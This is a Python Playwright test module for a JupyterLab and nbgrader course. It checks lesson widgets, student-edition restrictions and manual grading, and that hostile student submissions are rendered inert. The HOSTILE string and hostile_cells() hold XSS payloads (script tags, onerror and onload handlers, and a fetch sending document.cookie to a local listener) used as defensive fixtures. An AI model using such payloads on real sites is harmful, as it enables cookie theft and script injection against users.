"""The course in a real browser: headless Chromium (Debian's) driven by Playwright.

Two servers run for these tests, each on 127.0.0.1 with a token: an instructor's (the server
config of `make lab`, on a temporary graded course with the lessons) and a student's (a student
edition, with its own Jupyter config). A failing test leaves a screenshot in tests/artifacts/.
Timeouts are explicit and long: the machine is shared.
"""

import contextlib
import http.server
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import nbformat
import pytest

from instructor.grading.release import build_edition
from instructor.paths import ROOT
from tests.support.course import make_course, read_csv, released, run, submit

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"]
TOKEN = "course-browser-test"
ARTIFACTS = ROOT / "tests" / "artifacts"
START = 180  # seconds for a server to answer
UI = 120_000  # milliseconds for the page to show what is awaited
ASSIGNMENT = "a2_convolution"
HOSTILE = (
    "My answer.\n\n<img src=x onerror=\"window.__pwned='img'\">\n\n"
    "<script>window.__pwned='script'</script>\n\n"
    "<svg onload=\"window.__pwned='svg'\"></svg>\n\n"
    "<script>fetch('http://127.0.0.1:{port}/stolen?c=' + document.cookie)</script>\n\n"
    "<img src=\"http://127.0.0.1:{port}/pixel\">\n"
)


def hostile_cells(port: int) -> list:
    """A raw HTML cell and a code cell whose stored outputs are HTML, JavaScript and SVG."""
    raw = nbformat.v4.new_raw_cell(
        "<script>window.__pwned='raw'</script><img src=x onerror=\"window.__pwned='raw-img'\">",
        metadata={"format": "text/html", "raw_mimetype": "text/html"})
    code = nbformat.v4.new_code_cell("print('hello')")
    code.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": f"<script>fetch('http://127.0.0.1:{port}/html-output')</script>"
                     "<b onmouseover=\"window.__pwned='html'\">bold</b>",
        "application/javascript": "window.__pwned='js'",
        "image/svg+xml": "<svg onload=\"window.__pwned='svg-output'\"></svg>",
        "text/plain": "hello"})]
    return [raw, code]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def chromium():
    if not Path(CHROMIUM).is_file():
        if os.environ.get("CI") == "true":
            pytest.fail(f"{CHROMIUM} is missing in CI: .ci/run must install Debian's chromium")
        pytest.skip(f"{CHROMIUM} is not installed (apt-get install -y chromium)")
    return CHROMIUM


@contextlib.contextmanager
def server(root_dir: Path, log_path: Path, config_path: Path | None = None):
    """A JupyterLab server on root_dir with the course's server config; yields its base URL."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("JUPYTER", "PYTEST"))}
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
    args = [str(Path(sys.executable).parent / "jupyter"), "lab", "--no-browser",
            f"--port={port}", "--ServerApp.port_retries=0", f"--IdentityProvider.token={TOKEN}",
            f"--ServerApp.root_dir={root_dir}", "--LabApp.expose_app_in_browser=True"]
    if config_path is None:
        args.append(f"--config={ROOT / 'jupyter_server_config.py'}")  # as make lab does
    else:
        env["JUPYTER_CONFIG_PATH"] = str(config_path)
    if os.geteuid() == 0:
        args.append("--allow-root")
    log = log_path.open("w")
    proc = subprocess.Popen(args, cwd=root_dir, env=env, stdout=log, stderr=subprocess.STDOUT,
                            start_new_session=True)
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + START
    up = False
    while time.monotonic() < deadline and proc.poll() is None and not up:
        try:
            with urllib.request.urlopen(f"{base}/api/status?token={TOKEN}", timeout=5) as r:
                up = r.status == 200
        except OSError:
            time.sleep(0.5)
    try:
        if not up:
            pytest.fail(f"JupyterLab did not answer in {START} s:\n{log_path.read_text()[-3000:]}")
        yield base
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
        log.close()


class Listener:
    """An HTTP listener on 127.0.0.1 that records every request (a script's exfiltration)."""

    def __init__(self):
        self.hits = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                outer.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def listener():
    ear = Listener()
    yield ear
    ear.httpd.shutdown()


@pytest.fixture(scope="module")
def course(tmp_path_factory, listener):
    """A graded course: one honest written answer, one hostile; the lessons beside it."""
    tmp = tmp_path_factory.mktemp("browser")
    root = make_course(tmp, [ASSIGNMENT])
    (tmp / "nbgrader_config.py").write_text('load_subconfig("course/nbgrader_config.py")\n')
    shutil.copytree(ROOT / "notebooks", tmp / "notebooks")
    for student, answer in (("honest", "My answer."), ("mallory", HOSTILE)):
        nb = released(root, ASSIGNMENT)
        for cell in nb.cells:
            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = answer.format(port=listener.port)
        if student == "mallory":
            nb.cells.extend(hostile_cells(listener.port))
        submit(root, student, ASSIGNMENT, nb)
    run(root)
    return tmp, root


@pytest.fixture(scope="module")
def instructor(course, tmp_path_factory):
    tmp, _ = course
    with server(tmp, tmp_path_factory.mktemp("logs") / "instructor.log") as base:
        yield base


@pytest.fixture(scope="module")
def student(course, tmp_path_factory):
    tmp, root = course
    dist = tmp_path_factory.mktemp("dist")
    build_edition(root, dist, ROOT, out=lambda *_: None)
    stage = dist / "student"
    with server(stage, tmp_path_factory.mktemp("logs") / "student.log",
                config_path=stage / "jupyter") as base:
        yield base, stage


@pytest.fixture
def page(chromium, tmp_path, request):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            str(tmp_path / "chromium-profile"), executable_path=chromium, headless=True,
            args=FLAGS, timeout=UI)
        tab = context.new_page()
        tab.set_default_timeout(UI)
        tab.console = []
        tab.on("console", lambda m: tab.console.append(m.text))
        tab.on("pageerror", lambda e: tab.console.append(f"page error: {e}"))
        failed_before = request.session.testsfailed
        try:
            yield tab
        finally:
            if request.session.testsfailed > failed_before:
                ARTIFACTS.mkdir(parents=True, exist_ok=True)
                with contextlib.suppress(Exception):
                    tab.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"),
                                   full_page=True)
                    (ARTIFACTS / f"{request.node.name}.console.txt").write_text(
                        "\n".join(tab.console))
            context.close()


def no_windowing(base):
    """Render every cell of a notebook (JupyterLab 4 only renders the ones in view by default)."""
    import json

    body = json.dumps({"raw": json.dumps({"windowingMode": "none"})}).encode()
    request = urllib.request.Request(
        f"{base}/lab/api/settings/@jupyterlab/notebook-extension:tracker?token={TOKEN}",
        data=body, method="PUT", headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=60) as response:
        assert response.status in (200, 204)


def open_notebook(page, base, path):
    no_windowing(base)
    page.goto(f"{base}/lab/tree/{path}?token={TOKEN}")
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=UI)
    page.wait_for_function("() => window.jupyterapp && "
                           "window.jupyterapp.shell.currentWidget && "
                           "window.jupyterapp.shell.currentWidget.sessionContext && "
                           "window.jupyterapp.shell.currentWidget.sessionContext.session && "
                           "window.jupyterapp.shell.currentWidget.sessionContext.session.kernel",
                           timeout=UI)


def run_all(page, seconds=600):
    page.evaluate("window.jupyterapp.commands.execute('notebook:run-all-cells')")
    page.wait_for_function(
        """() => {
            const prompts = [...document.querySelectorAll('.jp-CodeCell .jp-InputPrompt')];
            return prompts.length > 0 && prompts.every(p => /\\[\\d+\\]/.test(p.textContent));
        }""", timeout=seconds * 1000)


def test_a_lesson_runs_and_the_stride_slider_changes_the_output_size(instructor, page):
    open_notebook(page, instructor, "notebooks/03_stride_and_padding.ipynb")
    run_all(page)
    errors = page.locator(".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']"
                          ", .jp-RenderedText[data-mime-type='application/vnd.jupyter.error']")
    tracebacks = [t for t in errors.all_inner_texts() if "Traceback" in t or "Error" in t]
    assert not tracebacks, tracebacks[:2]
    explorer = page.locator(".widget-interact").first
    explorer.scroll_into_view_if_needed()
    readout = explorer.locator("text=/output \\d+ x \\d+/").first
    assert "output 5 x 5" in readout.inner_text()  # N=7, F=3, S=1, P=0
    slider = explorer.locator(".widget-slider:has(.widget-label:text-is('S'))").first
    slider.locator(".noUi-handle, .slider-handle, .ui-slider-handle").first.focus()
    page.keyboard.press("ArrowRight")  # S = 2
    explorer.locator("text=/output 3 x 3/").first.wait_for(timeout=UI)


def test_the_student_edition_validates_and_hides_instructor_tools(student, page):
    base, stage = student
    open_notebook(page, base, f"assignments/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")
    assert page.locator("text=Formgrader").count() == 0
    assert page.locator(".jp-MenuBar >> text=Nbgrader").count() == 0
    with urllib.request.urlopen(f"{base}/api/status?token={TOKEN}", timeout=30):
        pass
    status = None
    try:
        urllib.request.urlopen(f"{base}/formgrader?token={TOKEN}", timeout=30)
    except urllib.error.HTTPError as error:
        status = error.code
    assert status == 404, "the student edition serves the formgrader"
    # the active notebook's button: other open notebooks' toolbars hold hidden ones
    page.locator("button:has-text('Validate'):visible, .validate-button:visible").first.click()
    dialog = page.locator(".jp-Dialog")
    dialog.wait_for(timeout=600_000)  # the whole notebook runs first
    text = dialog.inner_text()
    assert "failed" in text.lower() or "error" in text.lower(), text


def test_formgrader_shows_the_mark_scheme_beside_each_written_answer(instructor, course, page):
    tmp, root = course
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        submission = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "honest")
        sid = submission.id
        answers = [g.name for g in submission.grades if g.cell.cell_type == "markdown"]
    assert answers
    page.goto(f"{instructor}/formgrader/submissions/{sid}/?token={TOKEN}")
    for name in answers:
        page.wait_for_selector(f"text=Mark scheme for {name}", timeout=UI)
        assert page.locator(f"input.score#{name}").is_visible()  # written answers: a score box
    assert read_csv(root)  # graded before the page was opened


def test_formgrader_locks_test_scores_and_a_manual_grade_reaches_grades_csv(instructor, course,
                                                                            page):
    tmp, root = course
    from nbgrader.api import Gradebook

    from instructor.grading.pipeline import refresh

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        submission = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "honest")
        sid = submission.id
        answer = next(g for g in submission.grades if g.cell.cell_type == "markdown")
        tests = [g.name for g in submission.grades if g.cell.cell_type == "code"
                 and g.auto_score is not None]
        name, points = answer.name, float(answer.max_score)
    before = next(r for r in read_csv(root) if r["student_id"] == "honest")
    page.goto(f"{instructor}/formgrader?token={TOKEN}")  # logs in, as an instructor does
    page.goto(f"{instructor}/formgrader/submissions/{sid}/")
    page.wait_for_function("() => window.formgrader && formgrader.loaded && formgrader.grades"
                           " && formgrader.grades.loaded && window.MathJax && MathJax.loaded",
                           timeout=UI)  # the page's script has its grades, after MathJax
    locked = page.locator(".autograded_cell")
    assert locked.count() == len(tests) > 0
    for test in tests:  # a test cell's score box is closed away: no stray keystroke reaches it
        assert not page.locator(f"input.score#{test}").is_visible(), test
    with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url
                              and r.request.method == "PUT", timeout=UI) as saved:
        box = page.locator(f"input.score#{name}")
        box.fill(str(points))
        box.press("Tab")  # the formgrader saves a score when its box loses focus
    assert saved.value.ok
    refresh(root, out=lambda *_: None)  # make feedback
    after = next(r for r in read_csv(root) if r["student_id"] == "honest")
    assert float(after["score"]) == float(before["score"]) + points, (before, after)


def test_hostile_markdown_is_inert_on_the_formgrader_and_feedback_pages(instructor, course, page,
                                                                         listener):
    tmp, root = course
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        sid = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "mallory").id
    pages = [f"{instructor}/formgrader/submissions/{sid}/?token={TOKEN}",
             f"{instructor}/files/course/feedback/mallory/{ASSIGNMENT}/{ASSIGNMENT}.html"
             f"?token={TOKEN}"]
    for url in pages:
        page.goto(url)
        page.wait_for_selector("text=My answer.", timeout=UI)
        time.sleep(2)  # give any smuggled script its chance
        assert page.evaluate("window.__pwned") is None, url
    assert listener.hits == [], listener.hits
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:  # and it gained nothing
        scores = {s: [(g.name, g.auto_score) for g in  # (honest's answer was graded above)
                      gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, s).grades
                      if g.cell.cell_type == "code"]
                  for s in ("honest", "mallory")}
    assert scores["mallory"] == scores["honest"], scores
    # the page's own scripts still ran: the formgrader loaded its grades into the boxes
    page.goto(pages[0])
    page.wait_for_function("() => document.querySelectorAll('input.score[placeholder]').length > 0",
                           timeout=UI)
